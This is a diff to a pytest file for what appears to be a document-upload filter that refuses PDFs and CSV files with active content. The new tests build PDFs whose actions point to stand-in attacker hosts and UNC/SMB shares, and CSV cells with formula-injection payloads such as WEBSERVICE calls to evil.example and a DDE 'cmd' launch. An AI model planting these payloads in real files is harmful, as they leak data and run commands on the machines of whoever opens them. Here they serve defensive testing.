@@ -1,7 +1,8 @@
 """What is in a document decides whether it is taken: not the names of its parts, their encoding or their namespaces."""
 
 import struct
-from collections.abc import Iterable
+from collections.abc import Callable, Iterable
+from typing import Any
 
 import pikepdf
 import pytest
@@ -20,6 +21,7 @@ from tests.support.evidence import (
     PACKAGE,
     RELATIONS,
     WORD,
+    annotate,
     biff,
     changed_pdf,
     compound,
@@ -36,6 +38,7 @@ from tests.support.evidence import (
 WORDS = f"{OFFICE}.wordprocessingml"
 STRICT = "http://purl.oclc.org/ooxml/wordprocessingml/main"
 DDE = field(" DDEAUTO c:\\\\windows\\\\cmd.exe ")
+LEADS = "liên kết tới chương trình hoặc máy khác"
 AWAY = "https://example.org/a"
 
 
@@ -821,3 +824,86 @@ def test_what_a_page_does_by_itself(cause: str, make: type, is_taken: bool) -> N
         document.pages[0].obj.AA = Dictionary({f"/{cause}": document.make_indirect(make())})
 
     assert taken(changed_pdf(change), "a.pdf") is is_taken
+
+
+def clicked(**action: Any) -> Callable[[pikepdf.Pdf], None]:
+    return lambda document: annotate(document, A=Dictionary(**action))
+
+
+def _kept_elsewhere(document: pikepdf.Pdf) -> None:
+    document.Root.X = document.make_stream(b"", F=Dictionary(FS=Name.URL, F=String("http://evil.example/x")))
+
+
+def _shown_from_elsewhere(document: pikepdf.Pdf) -> None:
+    of = Dictionary(F=String(r"\\evil\s\x.pdf"), Page=0)
+    document.Root.X = document.make_stream(b"", Type=Name.XObject, Subtype=Name.Form, Ref=of)
+
+
+def _step_by_step(document: pikepdf.Pdf) -> None:
+    document.pages[0].PresSteps = Dictionary(NA=Dictionary(S=Name.URI, URI=String("https://evil.example")))
+
+
+def _base(document: pikepdf.Pdf) -> None:
+    document.Root.URI = Dictionary(Base=String("file://evil/s/"))
+
+
+PDF_ELSEWHERE: dict[str, tuple[Callable[[pikepdf.Pdf], None], str]] = {
+    "external data": (_kept_elsewhere, "dữ liệu lấy từ nơi khác"),
+    "reference XObject": (_shown_from_elsewhere, "dữ liệu lấy từ nơi khác"),
+    "steps of a presentation": (_step_by_step, "hành động tự chạy"),
+    "movie": (lambda document: annotate(document, Subtype=Name.Movie), "đa phương tiện"),
+    "sound": (lambda document: annotate(document, Subtype=Name.Sound), "đa phương tiện"),
+    "screen": (lambda document: annotate(document, Subtype=Name.Screen), "đa phương tiện"),
+    "base": (_base, LEADS),
+    "other machine": (clicked(S=Name.GoToR, F=String(r"\\evil\s\a.pdf")), LEADS),
+    "its description": (clicked(S=Name.GoToR, F=Dictionary(Type=Name.Filespec, UF=String(r"\\evil\s\a.pdf"))), LEADS),
+    "form": (clicked(S=Name.SubmitForm, F=Dictionary(FS=Name.URL, F=String("smb://evil/s"))), LEADS),
+    "program": (clicked(S=Name.URI, URI=String("file://evil/s/x.exe")), LEADS),
+    "protocol": (clicked(S=Name.URI, URI=String("ms-word:ofe|u|https://evil.example/a.docx")), LEADS),
+}
+
+
+@pytest.mark.parametrize(("change", "words"), PDF_ELSEWHERE.values(), ids=list(PDF_ELSEWHERE))
+def test_a_pdf_that_leads_to_other_machines_is_refused(change: Callable[[pikepdf.Pdf], None], words: str) -> None:
+    assert words in answer(changed_pdf(change), "a.pdf")
+
+
+@pytest.mark.parametrize(
+    "target",
+    [
+        "https://tiencanh.gov.vn/a?b=c",
+        "www.tiencanh.gov.vn/a?b=c:d",
+        "mailto:vp@tiencanh.gov.vn",
+        "phu-luc.pdf",
+        "#trang=2",
+    ],
+)
+def test_links_of_a_pdf_that_people_make_are_taken(target: str) -> None:
+    assert taken(changed_pdf(clicked(S=Name.URI, URI=String(target))), "a.pdf")
+
+
+@pytest.mark.parametrize(
+    "cell",
+    [
+        '+WEBSERVICE("http://evil.example/"&A1)',
+        '-2+WEBSERVICE("http://evil.example/")',
+        '@WEBSERVICE("http://evil.example/")',
+        '=_xlfn.WEBSERVICE("http://evil.example/")',
+        '=WEBSERVICE ("http://evil.example/")',
+        '=IMAGE("https://evil.example/a.png")',
+        r"='\\evil\s\[x.xlsx]S'!A1",
+        "='https://evil.example/[x.xlsx]S'!A1",
+        r'"=HYPERLINK(""\\evil\s\x"",""Xem"")"',
+        "+cmd|'/C calc'!A0",
+    ],
+)
+def test_a_cell_of_a_table_of_text_that_fetches_is_refused(cell: str) -> None:
+    assert "evidence-active" in answer(f"a;b\r\nx;{cell}\r\n".encode(), "a.csv")
+
+
+@pytest.mark.parametrize(
+    "cell",
+    ["=A1+B1", "-5", "+84 912 345 678", "- IMAGE(1).JPG", "=[1] tổng!", "a@xa.vn", r"='C:\so\[so.xlsx]S'!A1"],
+)
+def test_ordinary_cells_of_a_table_of_text_are_taken(cell: str) -> None:
+    assert taken(f"a;b\r\nx;{cell}\r\n".encode(), "a.csv")
